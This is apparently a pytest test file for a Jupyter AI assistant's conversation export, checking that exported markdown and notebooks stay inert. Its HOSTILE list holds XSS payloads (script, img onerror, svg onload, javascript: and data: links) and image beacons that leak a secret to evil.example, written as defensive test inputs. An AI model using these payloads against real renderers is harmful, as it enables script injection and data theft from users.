"""Exported conversations: complete, valid, and dead until somebody runs a cell."""

from __future__ import annotations

import html.parser
import json
from pathlib import Path

import nbformat
import pytest
from nbconvert.filters import markdown2html

from jupyter_ai_assist.core.history import export_markdown, export_notebook
from jupyter_ai_assist.core.messages import Message, TextPart, ToolCallPart, ToolResultPart

FENCED = """Read it:

```python
import pandas as pd

df = pd.read_csv("a.csv")  # <b>
```

Then in a shell:

~~~bash
rm -rf build  # ``` inside
~~~

1. In a list:

   ```py
   if x < 3:
       y()
   ```

- ```py
  z()
  ```

Done with `df[df.x <limit]`, `funcs[0](x)`, [docs](https://pandas.pydata.org) and 1 < 2.
"""

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\\<img src=x onerror=alert(1)>",
    "![beacon](https://evil.example/?q=secret)",
    "\\![beacon](https://evil.example/?q=secret)",
    "\\\\![beacon](https://evil.example/)",
    "![beacon][ref]\n\n[ref]: https://evil.example/",
    "[![beacon](https://evil.example/)](https://evil.example/)",
    "a | b\n--|--\n`x | <img src=x onerror=alert(1)>` | y",
    "a | b\n--|--\n`x | ![b](https://evil.example/)` | y",
    "`` ` <img src=x onerror=alert(1)> ``",
    "\\`<img src=x onerror=alert(1)>\\`",
    "`a\n<img src=x onerror=alert(1)>\nb`",
    "> ```\n> <img src=x onerror=alert(1)>\n> ```\n<img src=x onerror=alert(1)>",
    "```python\n<img src=x onerror=alert(1)>\n````\n<img src=x onerror=alert(1)>",
    '```x" onmouseover=alert(1) <img src=x>\ncode\n```',
    "```python <img src=x onerror=alert(1)>\ncode",
    "~~~\n```\n<img src=x onerror=alert(1)>\n~~~\n<img src=x onerror=alert(1)>",
    "```\r\ncode\r\n```\r\n<img src=x onerror=alert(1)>",
    "```text\ncode\r```\r<img src=x onerror=alert(1)>\n```",
    "    <img src=x onerror=alert(1)>\n<iframe src=//evil.example></iframe>",
    "<https://evil.example/><svg onload=alert(1)>",
    "<!-- --><style>@import url(https://evil.example/)</style><form action=//evil.example>",
    "<a href=x data-commandlinker-command=console:create>x</a>",
    "<?php x ?><![CDATA[<img src=x>]]>",
    "$$<img src=x onerror=alert(1)>$$ and $<img src=x onerror=alert(1)>$",
    "[x](javascript:alert(1)) [y](<javascript:alert(1)>) [z](< javascript:alert(1)>)",
    "[x](\nJavaScript:alert(1)) [y](&#106;avascript:alert(1)) [z](data:text/html,x)",
    "[x]\n\n[x]: javascript:alert(1)\n[y]:\n  &#106;avascript:alert(1)\n\n[y]",
    "- ```python\n  <img src=x onerror=alert(1)>\n  ```\n<img src=x onerror=alert(1)>",
    "> ```\n\n<img src=x onerror=alert(1)>\n\n- ~~~\n<img src=x onerror=alert(1)>",
    "x ```\n<img src=x onerror=alert(1)>\n``` y\n```\n<img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
]


@pytest.fixture
def thread(history):
    return history.start_thread("work/a.ipynb", title="Reading <a> *file*")


def tags(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
    """What a browser would see of it, after the least careful of the renderers."""
    found = []

    class Reader(html.parser.HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    Reader().feed(str(markdown2html(markdown)))
    return found


def assert_dead(markdown: str) -> None:
    alive = {"script", "img", "iframe", "svg", "style", "form", "object", "embed", "link", "meta"}
    for tag, attributes in tags(markdown):
        assert tag not in alive, markdown
        assert not [name for name in attributes if name.startswith(("on", "style", "data-"))]
        address = (attributes.get("href") or "").strip().lower()
        assert not address.startswith(("javascript:", "data:")), markdown


class TestNotebook:
    def test_code_becomes_cells_that_have_not_run(self, thread, make_turn):
        turn = make_turn("How do I read it?\n\n```python\nold()\n```", FENCED)
        notebook = export_notebook(thread, [turn])
        nbformat.validate(nbformat.from_dict(json.loads(json.dumps(notebook))))
        code = [cell for cell in notebook["cells"] if cell["cell_type"] == "code"]
        assert [cell["source"] for cell in code] == [
            'import pandas as pd\n\ndf = pd.read_csv("a.csv")  # <b>',
            "if x < 3:\n    y()",
            "z()",
        ]
        assert all(cell["outputs"] == [] and cell["execution_count"] is None for cell in code)
        prose = "\n".join(
            cell["source"] for cell in notebook["cells"] if cell["cell_type"] == "markdown"
        )
        assert "How do I read it?\n\n```python\nold()\n```" in prose
        assert "bash\nrm -rf build  # ``` inside\n" in prose
        assert "`df[df.x < limit]`, `funcs[0](x)`" in prose
        assert "[docs](https://pandas.pydata.org) and 1 < 2." in prose

    def test_it_opens_as_a_notebook_of_version_4_5(self, thread, make_turn):
        turns = [make_turn() for _ in range(3)]
        notebook = nbformat.reads(json.dumps(export_notebook(thread, turns)), as_version=4)
        assert (notebook.nbformat, notebook.nbformat_minor) == (4, 5)
        ids = [cell.id for cell in notebook.cells]
        assert len(set(ids)) == len(ids)

    def test_cells_say_where_they_come_from(self, thread, make_turn):
        turn = make_turn(answer=FENCED)
        about = [cell["metadata"] for cell in export_notebook(thread, [turn])["cells"][1:]]
        assert all(
            values["jupyter_ai_assist"]["turn"] == turn.id
            and values["jupyter_ai_assist"]["model"] == "openai:gpt"
            for values in about
        )
        roles = [values["jupyter_ai_assist"]["role"] for values in about]
        assert roles == ["question", *["answer"] * (len(roles) - 1)]

    def test_there_are_no_raw_cells(self, thread, make_turn):
        turns = [make_turn(hostile, hostile) for hostile in HOSTILE]
        notebook = export_notebook(thread, turns)
        nbformat.validate(nbformat.from_dict(notebook))
        assert {cell["cell_type"] for cell in notebook["cells"]} == {"markdown", "code"}

    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_hostile_text_is_dead(self, history, make_turn, hostile):
        thread = history.start_thread(hostile, hostile, hostile)
        call = ToolCallPart(id="1", name=hostile, arguments={})
        turn = make_turn(
            hostile,
            messages=(
                Message(role="assistant", parts=(TextPart(text=hostile), call)),
                Message(role="user", parts=(ToolResultPart(id="1", name=hostile, text="x"),)),
                Message(role="assistant", parts=(TextPart(text=f"prose {hostile}\n\n{hostile}"),)),
            ),
            model=hostile,
            outcome="failed",
            error=hostile,
        )
        assert_dead(export_markdown(thread, [turn]))
        for cell in export_notebook(thread, [turn])["cells"]:
            if cell["cell_type"] == "markdown":
                assert_dead(cell["source"])


class TestMarkdown:
    def test_a_conversation_reads_as_it_went(self, thread, make_turn):
        call = ToolCallPart(id="1", name="read_cells", arguments={})
        messages = (
            Message(role="user", parts=(TextPart(text="the whole prompt"),)),
            Message(role="assistant", parts=(TextPart(text="Let me look."), call)),
            Message(role="user", parts=(ToolResultPart(id="1", name="read_cells", text="x"),)),
            Message(role="assistant", parts=(TextPart(text="It is **empty**."),)),
        )
        turns = [
            make_turn("Is it?", messages=messages),
            make_turn("And now?", messages=(), outcome="failed", error="No key."),
            make_turn("Well?", "The fir", outcome="stopped"),
        ]
        text = export_markdown(thread, turns)
        assert text.startswith("# Reading &lt;a> \\*file\\*\n\nNotebook work/a.ipynb, begun ")
        order = [
            "## Question, 2026-11-20 12:01 UTC\n\nIs it?",
            "### Answer by openai:gpt\n\nLet me look.\n\nIt is **empty**.",
            "Tools used: read\\_cells.",
            "And now?",
            "This turn failed: No key.",
            "Well?",
            "The fir",
            "This turn was stopped.",
        ]
        places = [text.index(part) for part in order]
        assert places == sorted(places)
        assert "the whole prompt" not in text

    def test_code_is_byte_for_byte_the_same(self, thread, make_turn):
        code = "x = '<img>'\n\n\ty = \"![a](b)\"  # \x0c `tick` \u2028"
        text = export_markdown(thread, [make_turn(answer=f"Here:\n\n```python\n{code}\n```\n")])
        assert f"```python\n{code}\n```" in text

    def test_an_empty_conversation(self, thread):
        assert export_markdown(thread, []).count("\n") == 3
        nbformat.validate(nbformat.from_dict(export_notebook(thread, [])))

    @pytest.mark.parametrize(
        ("place", "root", "named"),
        [
            ("/srv/of/ada/work/a.ipynb", "/srv/of/ada", "work/a.ipynb"),
            ("~/papers/a.ipynb", "", "\\~/papers/a.ipynb"),
            ("/srv/of/ada/work/a.ipynb", "/elsewhere", "a.ipynb"),
        ],
    )
    def test_a_notebook_is_named_without_its_machine(self, history, place, root, named):
        place = place.replace("~", str(Path.home()))
        thread = history.start_thread(place, title="Talk")
        text = export_markdown(thread, [], root)
        assert f"\n\nNotebook {named}, begun " in text
        assert export_notebook(thread, [], root)["cells"][0]["source"] in text

    def test_headings_stand_below_those_of_the_conversation(self, thread, make_turn):
        answer = (
            "# Top\n\nText\n\nUnder\nlined\n---\n\n> ## Quoted\n\n```python\n# no heading\n```\n\n"
            "- item\n---\n\n###### Deep\n"
        )
        turn = make_turn("# Mine\n\nWell?", answer)
        text = export_markdown(thread, [turn])
        for line in (
            "#### Mine",
            "#### Top",
            "##### Under lined",
            "> ##### Quoted",
            "# no heading",
        ):
            assert line in text.split("\n")
        assert "- item\n---" in text
        assert "###### Deep" in text
        headings = [line for line in text.split("\n") if line.startswith(("# ", "## ", "### "))]
        assert [line.split()[1] for line in headings] == [
            "Reading",
            "Question,",
            "Answer",
            "no",
        ]
        cells = export_notebook(thread, [turn])["cells"]
        assert any("#### Top" in cell["source"] for cell in cells)
        assert make_turn(answer="#### Low enough").messages[-1].text in export_markdown(
            thread, [make_turn(answer="#### Low enough")]
        )
